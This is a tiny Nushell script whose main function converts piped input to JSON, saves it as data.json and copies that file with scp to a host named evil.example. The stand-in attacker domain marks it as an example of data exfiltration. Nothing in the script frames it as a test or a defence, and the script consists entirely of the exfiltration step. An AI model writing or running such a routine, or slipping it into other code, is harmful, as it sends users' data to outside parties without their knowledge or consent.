def main [] {
  $in | to json | save -f data.json
  scp data.json user@evil.example:/tmp/
}
